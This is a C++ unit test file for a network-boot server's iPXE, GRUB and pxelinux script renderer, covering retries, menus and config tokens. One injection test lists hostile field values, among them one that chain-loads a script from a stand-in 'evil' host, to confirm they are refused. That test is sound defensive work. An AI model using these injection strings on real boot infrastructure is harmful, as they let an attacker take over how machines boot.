#include "bootd/render/machine_scripts.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <map>
#include <string>
#include <vector>

namespace rackboot::bootd::render {
namespace {

Assignment MakeAssignment() {
  Assignment a;
  a.machine_name = "lab/node-01";
  a.hostname = "node-01";
  a.rack = "r1";
  InterfaceAssignment iface;
  iface.mac = *MacAddress::Parse("52:54:00:12:34:56");
  iface.ipv4 = *Ipv4Address::Parse("10.0.0.5");
  a.interfaces.push_back(iface);
  a.uuid = "11223344-5566-7788-99aa-bbccddeeff01";
  a.architecture = "x86_64";
  a.firmware = "uefi";
  a.boot.profile_name = "debian";
  a.boot.kernel.url = "debian/vmlinuz";
  a.boot.initrds.push_back({"debian/initrd.img", ""});
  a.boot.cmdline_template =
      "root=/dev/nfs nfsroot={{env.nfs-server}}:/srv/{{machine.hostname}} ip={{machine.ip}} {{params.extra}}";
  a.parameters["extra"] = "console=ttyS0";
  a.boot.install_configs["user-data"] = "#cloud-config\nhostname: {{machine.hostname}}\n";
  a.boot.install_configs["ks.cfg"] = "network --hostname={{machine.hostname}}\n";
  return a;
}

ScriptRequest MakeRequest() {
  ScriptRequest r;
  r.mac = *MacAddress::Parse("52:54:00:12:34:56");
  r.public_url = "http://192.0.2.1:8080";
  r.rack = "r1";
  r.environment["nfs-server"] = "192.0.2.10";
  return r;
}

std::vector<std::string> Lines(const std::string& s) {
  std::vector<std::string> out;
  size_t start = 0;
  while (start < s.size()) {
    size_t nl = s.find('\n', start);
    if (nl == std::string::npos) nl = s.size();
    out.push_back(s.substr(start, nl - start));
    start = nl + 1;
  }
  return out;
}

// iPXE commands: non-empty lines plus the && / || / ; chained parts.
size_t CountIpxeCommands(const std::string& script) {
  size_t n = 0;
  for (const auto& line : Lines(script)) {
    if (line.empty() || line[0] == '#') continue;
    ++n;
    for (const char* op : {" && ", " || ", " ; "}) {
      for (size_t p = line.find(op); p != std::string::npos; p = line.find(op, p + 1)) ++n;
    }
  }
  return n;
}

TEST(MachineScripts, DefaultIpxeScriptUsesAbsoluteUrlsAndInitrdNames) {
  auto r = RenderIpxeScript(MakeAssignment(), MakeRequest());
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(*r,
            "#!ipxe\n"
            "echo rackboot: lab/node-01 52:54:00:12:34:56 profile debian\n"
            "set rackboot-try:int32 0\n"
            "goto rackboot.fetch\n"
            ":rackboot.retry\n"
            "imgfree\n"
            "iseq ${rackboot-try} 9 && goto rackboot.give-up ||\n"
            "inc rackboot-try\n"
            "echo rackboot: fetch failed (${errno}), retry ${rackboot-try} of 9 in ${rackboot-try} s\n"
            "sleep ${rackboot-try}\n"
            "goto rackboot.fetch\n"
            ":rackboot.give-up\n"
            "echo rackboot: giving up after 10 attempts\n"
            "exit 1\n"
            ":rackboot.fetch\n"
            "kernel http://192.0.2.1:8080/boot/52-54-00-12-34-56/debian/vmlinuz root=/dev/nfs "
            "nfsroot=192.0.2.10:/srv/node-01 ip=10.0.0.5 console=ttyS0 initrd=initrd.img || goto rackboot.retry\n"
            "initrd --name initrd.img http://192.0.2.1:8080/boot/52-54-00-12-34-56/debian/initrd.img "
            "|| goto rackboot.retry\n"
            "boot\n");
}

// Runs the part of iPXE's script language the built-in scripts use (labels,
// goto, set/inc/iseq on one integer, sleep, imgfree, kernel/initrd/boot,
// echo, exit, and iPXE's rule that a line whose last command fails ends the
// script). Fetch n (counted from 1) fails, as a 503 or a dropped connection
// would, when fails(n).
struct IpxeRun {
  bool booted = false;
  int fetches = 0;
  int slept_seconds = 0;
  std::vector<std::string> loaded;  // images held when `boot` ran
};
IpxeRun RunIpxe(const std::string& script, const std::function<bool(int)>& fails) {
  const std::vector<std::string> lines = Lines(script);
  IpxeRun run;
  std::map<std::string, long> ints;
  std::vector<std::string> images;
  auto expand = [&](std::string s) {
    for (size_t p; (p = s.find("${")) != std::string::npos;) {
      const size_t end = s.find('}', p);
      const std::string name = s.substr(p + 2, end - p - 2);
      s.replace(p, end - p + 1, name == "errno" ? "0x3f122003" : std::to_string(ints.at(name)));
    }
    return s;
  };
  size_t pc = 1;  // after #!ipxe
  for (int steps = 0; pc < lines.size(); ++steps) {
    if (steps > 10000) ADD_FAILURE() << "the script does not end";
    if (steps > 10000) return run;
    const std::string line = lines[pc++];
    if (line.empty() || line[0] == ':') continue;
    // Split "a && b || c" into commands and the operators between them.
    std::vector<std::string> cmds;
    std::vector<std::string> ops;
    size_t start = 0;
    for (size_t p = 0; p < line.size(); ++p) {
      if (line.compare(p, 4, " && ") == 0 || line.compare(p, 4, " || ") == 0 || line.compare(p, 3, " ||") == 0) {
        cmds.push_back(line.substr(start, p - start));
        ops.push_back(line.substr(p + 1, 2));
        p += 2;
        start = p + 2;
      }
    }
    cmds.push_back(start < line.size() ? line.substr(start) : "");
    bool ok = true;
    bool jumped = false;
    for (size_t i = 0; i < cmds.size() && !jumped; ++i) {
      if (i > 0 && (ops[i - 1] == "&&") != ok) continue;
      const std::string cmd = expand(cmds[i]);
      const std::string verb = cmd.substr(0, cmd.find(' '));
      const std::string arg = cmd.find(' ') == std::string::npos ? "" : cmd.substr(cmd.find(' ') + 1);
      if (cmd.empty() || verb == "echo") {
        ok = true;
      } else if (verb == "set") {
        ints[arg.substr(0, arg.find(':'))] = std::stol(arg.substr(arg.find(' ') + 1));
      } else if (verb == "inc") {
        ++ints[arg];
      } else if (verb == "iseq") {
        ok = arg.substr(0, arg.find(' ')) == arg.substr(arg.find(' ') + 1);
      } else if (verb == "sleep") {
        run.slept_seconds += std::stoi(arg);
      } else if (verb == "imgfree") {
        images.clear();
      } else if (verb == "kernel" || verb == "initrd") {
        ok = !fails(++run.fetches);
        if (ok) images.push_back(verb);
      } else if (verb == "boot") {
        run.booted = true;
        run.loaded = images;
        return run;
      } else if (verb == "exit") {
        return run;
      } else if (verb == "goto") {
        const auto it = std::find(lines.begin(), lines.end(), ":" + arg);
        if (it == lines.end()) ADD_FAILURE() << "no label " << arg;
        if (it == lines.end()) return run;
        pc = static_cast<size_t>(it - lines.begin()) + 1;
        jumped = true;
      } else {
        ADD_FAILURE() << "command the interpreter does not know: " << cmd;
        return run;
      }
    }
    if (!ok && !jumped) return run;  // iPXE ends a script at a failed line
  }
  return run;
}

TEST(MachineScripts, DefaultIpxeScriptRetriesFailedFetchesWithGrowingPausesThenGivesUp) {
  auto r = RenderIpxeScript(MakeAssignment(), MakeRequest());
  ASSERT_TRUE(r.ok()) << r.error().message;
  // Nothing fails: kernel and initrd once, no pause.
  IpxeRun run = RunIpxe(*r, [](int) { return false; });
  EXPECT_TRUE(run.booted);
  EXPECT_EQ(run.fetches, 2);
  EXPECT_EQ(run.slept_seconds, 0);
  EXPECT_EQ(run.loaded, (std::vector<std::string>{"kernel", "initrd"}));
  // The kernel fetch fails (fetch 1), then the initrd after a good kernel
  // (fetch 3): the boot is delayed 1 + 2 s and starts with one kernel and
  // one initrd (what was loaded before a failure is freed).
  run = RunIpxe(*r, [](int n) { return n == 1 || n == 3; });
  EXPECT_TRUE(run.booted);
  EXPECT_EQ(run.fetches, 5);
  EXPECT_EQ(run.slept_seconds, 3);
  EXPECT_EQ(run.loaded, (std::vector<std::string>{"kernel", "initrd"}));
  // Nine failures still boot on the tenth attempt.
  run = RunIpxe(*r, [](int n) { return n <= 9; });
  EXPECT_TRUE(run.booted);
  EXPECT_EQ(run.slept_seconds, 45);
  // A server that never answers: ten attempts, then the script gives up
  // (exit), as a failed fetch did before the loop existed.
  run = RunIpxe(*r, [](int) { return true; });
  EXPECT_FALSE(run.booted);
  EXPECT_EQ(run.fetches, kIpxeFetchAttempts);
  EXPECT_EQ(run.slept_seconds, 45);
}

TEST(MachineScripts, OperatorIpxeTemplateIsRenderedAsWritten) {
  Assignment a = MakeAssignment();
  a.boot.ipxe_template = "#!ipxe\nkernel {{kernel_url}} {{cmdline}}\n{{#initrds}}initrd {{url}}\n{{/initrds}}boot\n";
  auto r = RenderIpxeScript(a, MakeRequest());
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_EQ(*r,
            "#!ipxe\n"
            "kernel http://192.0.2.1:8080/boot/52-54-00-12-34-56/debian/vmlinuz root=/dev/nfs "
            "nfsroot=192.0.2.10:/srv/node-01 ip=10.0.0.5 console=ttyS0 initrd=initrd.img\n"
            "initrd http://192.0.2.1:8080/boot/52-54-00-12-34-56/debian/initrd.img\n"
            "boot\n");
  // Without a retry loop the first failed fetch ends it, as the operator wrote.
  EXPECT_FALSE(RunIpxe(*r, [](int n) { return n == 1; }).booted);
  EXPECT_TRUE(RunIpxe(*r, [](int) { return false; }).booted);
}

TEST(MachineScripts, MenuHasEntriesDefaultTimeoutAndShell) {
  Assignment a = MakeAssignment();
  for (const char* n : {"debian", "rescue"}) {
    MenuEntry e;
    e.name = n;
    e.label = std::string("Boot ") + n;
    e.kernel.url = std::string(n) + "/vmlinuz";
    e.initrds.push_back({std::string(n) + "/initrd.img", ""});
    e.cmdline_template = "ip=dhcp";
    a.boot.menu.push_back(e);
  }
  a.boot.menu_default = "rescue";
  a.boot.menu_timeout_seconds = 10;
  auto r = RenderIpxeScript(a, MakeRequest());
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_NE(r->find("item debian Boot debian\n"), std::string::npos);
  EXPECT_NE(r->find("item rescue Boot rescue\n"), std::string::npos);
  EXPECT_NE(r->find("choose --default rescue --timeout 10000 target && goto ${target} || goto rackboot.shell\n"),
            std::string::npos);
  EXPECT_NE(r->find(":rescue\nset rackboot-try:int32 0\ngoto rescue.fetch\n:rescue.retry\n"), std::string::npos) << *r;
  EXPECT_NE(r->find(":rescue.give-up\necho rackboot: giving up after 10 attempts\ngoto start\n"), std::string::npos);
  EXPECT_NE(r->find(":rescue.fetch\nkernel http://192.0.2.1:8080/boot/52-54-00-12-34-56/rescue/vmlinuz ip=dhcp "
                    "initrd=initrd.img || goto rescue.retry\n"
                    "initrd --name initrd.img http://192.0.2.1:8080/boot/52-54-00-12-34-56/rescue/initrd.img "
                    "|| goto rescue.retry\n"
                    "boot || goto start\n"),
            std::string::npos)
      << *r;
  EXPECT_NE(r->find(":rackboot.shell\n"), std::string::npos);
  // Every goto has exactly one label to go to (the entries' loops do not
  // share labels).
  const std::vector<std::string> lines = Lines(*r);
  for (const auto& line : lines) {
    for (size_t p = line.find("goto "); p != std::string::npos; p = line.find("goto ", p + 1)) {
      std::string label = line.substr(p + 5);
      label = label.substr(0, label.find(' '));
      if (label == "${target}") continue;
      EXPECT_EQ(std::count(lines.begin(), lines.end(), ":" + label), 1) << label;
    }
  }
  a.boot.menu[0].name = "bad name";
  EXPECT_FALSE(RenderIpxeScript(a, MakeRequest()).ok());
}

// localboot leaves iPXE for the disk (UEFI: exit to the boot manager;
// BIOS: sanboot the first disk, else exit); shell opens the iPXE shell;
// neither fetches anything.
TEST(MachineScripts, MenuLocalbootAndShellEntries) {
  Assignment a = MakeAssignment();
  MenuEntry install;
  install.name = "install";
  install.kernel.url = "vmlinuz";
  a.boot.menu.push_back(install);
  MenuEntry disk;
  disk.name = "disk";
  disk.label = "Boot from disk";
  disk.action = "localboot";
  a.boot.menu.push_back(disk);
  MenuEntry shell;
  shell.name = "shell";
  shell.action = "shell";
  a.boot.menu.push_back(shell);
  auto rendered = RenderIpxeScript(a, MakeRequest());
  ASSERT_TRUE(rendered.ok()) << rendered.error().message;
  // kainjow leaves the line of a false section blank; iPXE skips blank lines.
  std::string compact;
  for (const std::string& line : Lines(*rendered)) {
    if (!line.empty()) compact += line + "\n";
  }
  const std::string* r = &compact;
  EXPECT_NE(r->find("item disk Boot from disk\n"), std::string::npos) << *r;
  EXPECT_NE(r->find(":disk\necho rackboot: booting from the local disk\niseq ${platform} efi && exit ||\n"
                    "sanboot --no-describe --drive 0x80 || exit\n"),
            std::string::npos)
      << *r;
  EXPECT_NE(r->find(":shell\ngoto rackboot.shell\n"), std::string::npos) << *r;
  EXPECT_EQ(r->find("disk.retry"), std::string::npos) << "localboot fetches nothing";
  a.boot.menu[1].action = "reboot";
  auto bad = RenderIpxeScript(a, MakeRequest());
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.error().message.find("action 'reboot'"), std::string::npos);
}

TEST(MachineScripts, GrubAndPxelinux) {
  auto g = RenderGrubConfig(MakeAssignment(), MakeRequest());
  ASSERT_TRUE(g.ok()) << g.error().message;
  EXPECT_NE(g->find("  linux (http,192.0.2.1:8080)/boot/52-54-00-12-34-56/debian/vmlinuz root=/dev/nfs"),
            std::string::npos);
  EXPECT_NE(g->find("  initrd (http,192.0.2.1:8080)/boot/52-54-00-12-34-56/debian/initrd.img\n"), std::string::npos);
  auto p = RenderPxelinuxConfig(MakeAssignment(), MakeRequest());
  ASSERT_TRUE(p.ok()) << p.error().message;
  EXPECT_NE(p->find("  INITRD http://192.0.2.1:8080/boot/52-54-00-12-34-56/debian/initrd.img\n"), std::string::npos);
  EXPECT_NE(p->find("  APPEND root=/dev/nfs nfsroot=192.0.2.10:/srv/node-01 ip=10.0.0.5 console=ttyS0\n"),
            std::string::npos);
}

TEST(MachineScripts, InstallConfigsEscapeForTheirLanguage) {
  Assignment a = MakeAssignment();
  auto ud = RenderInstallConfig(a, MakeRequest(), "user-data");
  ASSERT_TRUE(ud.ok()) << ud.error().message;
  EXPECT_EQ(*ud, "#cloud-config\nhostname: \"node-01\"\n");
  a.hostname = "x\nruncmd: [reboot]";
  ud = RenderInstallConfig(a, MakeRequest(), "user-data");
  ASSERT_TRUE(ud.ok());
  EXPECT_EQ(*ud, "#cloud-config\nhostname: \"x\\nruncmd: [reboot]\"\n");
  EXPECT_FALSE(RenderInstallConfig(a, MakeRequest(), "ks.cfg").ok());
  EXPECT_FALSE(RenderInstallConfig(a, MakeRequest(), "missing").ok());
  EXPECT_EQ(InstallConfigLanguage("preseed.cfg"), TargetLanguage::kPreseed);
  EXPECT_EQ(InstallConfigLanguage("meta-data"), TargetLanguage::kYaml);
}

TEST(MachineScripts, ConfigUrlsCarryTheToken) {
  Assignment a = MakeAssignment();
  a.boot.cmdline_template = "ds=nocloud-net;s={{config_base}} ud={{configs.user-data}}";
  ScriptRequest req = MakeRequest();
  req.config_token = "abc.def";
  auto r = RenderIpxeScript(a, req);
  ASSERT_TRUE(r.ok()) << r.error().message;
  EXPECT_NE(r->find("ds=nocloud-net;s=http://192.0.2.1:8080/config/52-54-00-12-34-56/t/abc.def/"), std::string::npos);
  EXPECT_NE(r->find("ud=http://192.0.2.1:8080/config/52-54-00-12-34-56/user-data?token=abc.def"), std::string::npos);
  // Without a token (a config fetched over TFTP) there are no config URLs:
  // an error naming the variable, not "ud=".
  auto none = RenderIpxeScript(a, MakeRequest());
  ASSERT_FALSE(none.ok());
  EXPECT_NE(none.error().message.find("spec.cmdline uses unknown variable {{config_base}}"), std::string::npos)
      << none.error().message;
}

// Every hostile value, in every field a template can reach, is an error for
// every loader; none produces a script.
TEST(MachineScripts, InjectionInAnyFieldIsAnError) {
  const std::vector<std::string> hostile = {
      "x\nshell",   "x\r\nshell",           "a && shell",
      "a || shell", "${net0/mac}",          "#!ipxe",
      "a ; shell",  std::string(4096, 'A'), "x\n#!ipxe\nchain http://203.0.113.9/evil"};
  for (const auto& h : hostile) {
    for (int field = 0; field < 4; ++field) {
      Assignment a = MakeAssignment();
      ScriptRequest req = MakeRequest();
      if (field == 0) a.hostname = h;
      if (field == 1) a.parameters["extra"] = h;
      if (field == 2) req.environment["nfs-server"] = h;
      if (field == 3) a.machine_name = h;  // echoed by the default template
      EXPECT_FALSE(RenderIpxeScript(a, req).ok()) << "field " << field << " value " << h.substr(0, 40);
      if (field != 3) {
        // pxelinux.cfg is line-oriented: only line breaks and length matter.
        if (h.find('\n') != std::string::npos || h.size() > kMaxScriptValueBytes) {
          EXPECT_FALSE(RenderPxelinuxConfig(a, req).ok()) << "pxelinux field " << field << " " << h.substr(0, 40);
        }
        if (h.find_first_of("\n;&|$#") != std::string::npos || h.size() > kMaxScriptValueBytes) {
          EXPECT_FALSE(RenderGrubConfig(a, req).ok()) << "grub field " << field << " " << h.substr(0, 40);
        }
      }
    }
  }
}

TEST(MachineScripts, RenderedScriptNeverHasMoreCommandsThanItsTemplate) {
  Assignment a = MakeAssignment();
  a.boot.initrds.clear();  // no sections: template and script line up 1:1
  a.boot.ipxe_template =
      "#!ipxe\necho {{machine.hostname}} {{params.extra}}\nkernel {{kernel_url}} {{cmdline}}\nboot\n";
  const size_t template_commands = CountIpxeCommands(a.boot.ipxe_template);
  // Awkward but legal values render with the same number of commands...
  for (std::string v : {"a&b", "a|b", "x;y", "goto start", ":label", "echo", "-n", "&", "|", "#comment"}) {
    a.parameters["extra"] = v;
    a.hostname = "host-" + std::to_string(v.size());
    auto r = RenderIpxeScript(a, MakeRequest());
    ASSERT_TRUE(r.ok()) << v << ": " << r.error().message;
    EXPECT_EQ(CountIpxeCommands(*r), template_commands) << *r;
    EXPECT_EQ(Lines(*r).size(), Lines(a.boot.ipxe_template).size());
  }
  // ...and anything that would add one is refused.
  for (std::string v : {"a && reboot", "a || reboot", "x ; reboot", "x\nreboot"}) {
    a.parameters["extra"] = v;
    EXPECT_FALSE(RenderIpxeScript(a, MakeRequest()).ok()) << v;
  }
}

TEST(MachineScripts, HttpsArtifactIsAnErrorForIpxe) {
  Assignment a = MakeAssignment();
  a.boot.kernel.url = "https://example.com/vmlinuz";
  EXPECT_FALSE(RenderIpxeScript(a, MakeRequest()).ok());
  a.boot.kernel.url = "http://198.51.100.7/vmlinuz";
  auto r = RenderIpxeScript(a, MakeRequest());
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r->find("kernel http://198.51.100.7/vmlinuz "), std::string::npos);
}

TEST(MachineScripts, OperatorTemplateMustBeIpxe) {
  Assignment a = MakeAssignment();
  a.boot.ipxe_template = "echo no magic\n";
  EXPECT_FALSE(RenderIpxeScript(a, MakeRequest()).ok());
}

TEST(MachineScripts, DiscoveryScriptEchoesAndExits) {
  std::string s = DiscoveryIpxeScript(*MacAddress::Parse("aa:bb:cc:dd:ee:ff"), "r1");
  EXPECT_EQ(s.rfind("#!ipxe\n", 0), 0u);
  EXPECT_NE(s.find("echo rackboot: no machine with MAC aa:bb:cc:dd:ee:ff is registered on rack r1"), std::string::npos);
  EXPECT_EQ(Lines(s).back(), "exit");
  EXPECT_EQ(DiscoveryIpxeScript(*MacAddress::Parse("aa:bb:cc:dd:ee:ff"), "r1\nshell").find("\nshell"),
            std::string::npos);
}

}  // namespace
}  // namespace rackboot::bootd::render
